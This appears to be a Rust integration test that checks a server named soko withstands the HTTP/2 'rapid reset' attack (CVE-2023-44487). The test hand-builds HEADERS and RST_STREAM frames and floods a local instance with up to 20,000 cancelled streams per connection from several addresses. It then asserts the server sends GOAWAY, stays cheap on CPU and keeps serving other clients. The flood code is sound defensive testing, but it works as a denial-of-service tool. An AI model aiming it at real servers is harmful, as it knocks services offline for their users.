//! HTTP/2 "rapid reset" (CVE-2023-44487) on `http.listen` (h2c with prior knowledge): a client
//! opens streams and cancels each at once, thousands on one connection, so that the server
//! starts work for requests nobody waits for. The frames are written by hand, as an attacker
//! would: after a bounded number of resets soko ends the connection with GOAWAY
//! ENHANCE_YOUR_CALM, spends little CPU on it, and keeps serving other visitors.

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use super::external_appliance;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const GOAWAY: u8 = 0x7;
const END_STREAM_HEADERS: u8 = 0x1 | 0x4;
const CANCEL: u32 = 0x8;
const ENHANCE_YOUR_CALM: u32 = 0xb;
/// Streams each attacking connection tries to open and cancel.
const STREAMS: u32 = 20_000;
/// Attackers at once, each from its own address...
const ATTACKERS: u8 = 4;
/// ...each opening this many attacking connections, one after another.
const ROUNDS: u32 = 50;

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let len = payload.len() as u32;
    out.extend_from_slice(&len.to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// HPACK, static table only: `GET http://127.0.0.1/`.
fn get_root() -> Vec<u8> {
    let authority = b"127.0.0.1";
    // :method GET, :scheme http, :path /, then :authority (index 1) literal, not indexed.
    let mut block = vec![0x82, 0x86, 0x84, 0x01, authority.len() as u8];
    block.extend_from_slice(authority);
    block
}

/// What the server said on one connection until it ended it (or `wait` passed).
#[derive(Debug, Default)]
struct Heard {
    /// (last stream id, error code) of the GOAWAY frame.
    goaway: Option<(u32, u32)>,
    /// Response headers (to streams opened before their reset arrived).
    responses: u32,
    /// The server closed the connection.
    closed: bool,
}

/// The next frame: (type, stream, payload); `None` once the connection is closed.
async fn read_frame(rd: &mut tokio::net::tcp::OwnedReadHalf) -> Option<(u8, u32, Vec<u8>)> {
    let mut head = [0u8; 9];
    rd.read_exact(&mut head).await.ok()?;
    let len = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
    let stream = u32::from_be_bytes(head[5..9].try_into().unwrap()) & 0x7fff_ffff;
    let mut payload = vec![0u8; len];
    rd.read_exact(&mut payload).await.ok()?;
    Some((head[3], stream, payload))
}

async fn listen(mut rd: tokio::net::tcp::OwnedReadHalf, wait: Duration) -> Heard {
    let mut heard = Heard::default();
    let read = async {
        while let Some((kind, _, payload)) = read_frame(&mut rd).await {
            match kind {
                HEADERS => heard.responses += 1,
                GOAWAY if payload.len() >= 8 => {
                    let last = u32::from_be_bytes(payload[0..4].try_into().unwrap()) & 0x7fff_ffff;
                    let code = u32::from_be_bytes(payload[4..8].try_into().unwrap());
                    heard.goaway = Some((last, code));
                }
                _ => {}
            }
        }
        heard.closed = true;
    };
    let _ = tokio::time::timeout(wait, read).await;
    heard
}

/// CPU seconds `pid` has used (user + system, all threads).
fn cpu_secs(pid: i32) -> f64 {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
    let after = &stat[stat.rfind(')').unwrap() + 2..];
    let fields: Vec<&str> = after.split(' ').collect();
    // utime and stime: fields 14 and 15 of stat(5), 12 and 13 after the command name.
    let ticks: u64 = fields[11].parse::<u64>().unwrap() + fields[12].parse::<u64>().unwrap();
    let hz = std::process::Command::new("getconf")
        .arg("CLK_TCK")
        .output()
        .ok()
        .and_then(|o| String::from_utf8(o.stdout).ok())
        .and_then(|s| s.trim().parse::<u64>().ok())
        .unwrap_or(100);
    ticks as f64 / hz as f64
}

/// One attacking connection from `from`: a normal request first (this is HTTP/2 the server
/// speaks, answered), then HEADERS + RST_STREAM for [`STREAMS`] streams, written 500 pairs at a time.
/// The streams written, and what the server said.
async fn attack(web: SocketAddr, from: std::net::IpAddr) -> (u32, Heard, Duration) {
    let socket = tokio::net::TcpSocket::new_v4().unwrap();
    socket.bind(SocketAddr::new(from, 0)).unwrap();
    let tcp: TcpStream = socket.connect(web).await.unwrap();
    tcp.set_nodelay(true).unwrap();
    let (mut rd, mut wr) = tcp.into_split();
    let block = get_root();
    let mut hello = PREFACE.to_vec();
    frame(&mut hello, SETTINGS, 0, 0, &[]);
    frame(&mut hello, HEADERS, END_STREAM_HEADERS, 1, &block);
    wr.write_all(&hello).await.unwrap();
    let answered = tokio::time::timeout(Duration::from_secs(10), async {
        while let Some((kind, stream, _)) = read_frame(&mut rd).await {
            if kind == HEADERS && stream == 1 {
                return true;
            }
        }
        false
    });
    assert!(
        matches!(answered.await, Ok(true)),
        "no HTTP/2 answer to a normal request"
    );
    let started = Instant::now();
    let listener = tokio::spawn(listen(rd, Duration::from_secs(60)));
    // The flood. A write fails once the server has closed the connection: that is the point.
    let mut sent = 0;
    let mut next = 3u32;
    let mut batch = Vec::new();
    'flood: while sent < STREAMS {
        batch.clear();
        for _ in 0..500 {
            frame(&mut batch, HEADERS, END_STREAM_HEADERS, next, &block);
            frame(&mut batch, RST_STREAM, 0, next, &CANCEL.to_be_bytes());
            next += 2;
        }
        if wr.write_all(&batch).await.is_err() {
            break 'flood;
        }
        sent += 500;
        if listener.is_finished() {
            break;
        }
    }
    let heard = listener.await.unwrap();
    (sent, heard, started.elapsed())
}

#[tokio::test]
async fn http2_rapid_reset_ends_the_connection_and_others_are_served() {
    let (app, _db) = external_appliance("rapid-reset", |_| {}).await;
    let pid = app.pid();
    let web = app.cfg.http.listen;
    let probe = reqwest::Client::builder()
        .local_address(std::net::IpAddr::from([127, 0, 0, 2]))
        .pool_max_idle_per_host(0)
        .build()
        .unwrap();
    let healthz = app.url("/healthz");
    assert_eq!(probe.get(&healthz).send().await.unwrap().status(), 200);
    let cpu_before = cpu_secs(pid);

    // A visitor from another address, every 20 ms while the attack lasts.
    let (stop, mut stopped) = tokio::sync::oneshot::channel::<()>();
    let visitor = tokio::spawn(async move {
        let mut slowest = Duration::ZERO;
        let mut served = 0u32;
        loop {
            let t = Instant::now();
            let r = probe
                .get(&healthz)
                .timeout(Duration::from_secs(5))
                .send()
                .await;
            let took = t.elapsed();
            assert_eq!(
                r.map(|r| r.status().as_u16()).ok(),
                Some(200),
                "after {took:?}"
            );
            slowest = slowest.max(took);
            served += 1;
            tokio::select! {
                _ = &mut stopped => return (served, slowest),
                () = tokio::time::sleep(Duration::from_millis(20)) => {}
            }
        }
    });

    let started = Instant::now();
    let mut attackers = tokio::task::JoinSet::new();
    for k in 0..ATTACKERS {
        attackers.spawn(async move {
            let from = std::net::IpAddr::from([127, 0, 0, 10 + k]);
            for round in 0..ROUNDS {
                let (sent, heard, took) = attack(web, from).await;
                let Some((last, code)) = heard.goaway else {
                    panic!("{from} #{round}: no GOAWAY after {sent} reset streams: {heard:?}");
                };
                assert_eq!(code, ENHANCE_YOUR_CALM, "{from} #{round}: {heard:?}");
                // Bounded: refused after some dozens of streams, never the whole flood.
                assert!(
                    last < 2 * 1_000,
                    "{from} #{round}: the server took {} streams before refusing",
                    last / 2
                );
                assert!(heard.closed, "{from} #{round}: still open: {heard:?}");
                assert!(
                    took < Duration::from_secs(20),
                    "{from} #{round} took {took:?}"
                );
                if round == 0 {
                    eprintln!("{from}: {sent} streams written, {heard:?} after {took:?}");
                }
            }
        });
    }
    while let Some(done) = attackers.join_next().await {
        done.unwrap();
    }
    let attack_took = started.elapsed();
    stop.send(()).unwrap();
    let (served, slowest) = visitor.await.unwrap();
    let cpu = cpu_secs(pid) - cpu_before;
    eprintln!(
        "attack {attack_took:?}; soko used {cpu:.2} s of CPU; visitor served {served} times, slowest {slowest:?}"
    );
    assert!(
        served >= 3,
        "the attack was too short to tell ({served} visits)"
    );
    assert!(
        slowest < Duration::from_secs(1),
        "a visitor waited {slowest:?}"
    );
    // Without the limit, each round makes soko route 20,000 requests.
    assert!(
        cpu < 3.0,
        "soko used {cpu:.2} s of CPU on {ROUNDS} attacking connections"
    );
}
